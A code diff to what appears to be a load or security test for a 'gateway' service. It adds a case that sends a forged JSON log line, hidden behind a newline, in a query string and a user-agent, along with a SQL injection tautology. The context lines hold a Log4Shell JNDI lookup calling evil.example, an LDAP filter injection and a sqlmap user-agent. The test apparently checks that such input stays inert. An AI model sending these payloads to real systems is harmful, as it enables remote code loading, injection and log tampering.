@@ -4,6 +4,7 @@ failed open, a table that is full, a configuration that is refused, a VM that is
 import gzip
 import itertools
 import json
+import urllib.parse
 
 import gateway
 
@@ -118,6 +119,9 @@ class Load:
             "/?x=${jndi:ldap://evil.example/a}", "/users?filter=*)(uid=*))(|(uid=*",
         ]:
             self.send(path.replace("${", "$%7B").replace("}", "%7D").replace("|", "%7C"))
+        # A forged line of the log, behind a line break and out of its string: it has to stay text in the true one.
+        forged = '\n"}{"timestamp":"x","type":"security","event":"FORGED_DETECTED","category":"FORGED","client_ip":"192.0.2.9"}'
+        self.send("/search?q=" + urllib.parse.quote(forged + "' or 'a'='a"), user_agent="sqlmap " + forged.replace("\n", ""))
         self.send("/?seat=zz*zz")
         self.send("/?seat=" + "A" * 4000)
         self.send("/", user_agent="sqlmap/1.7")
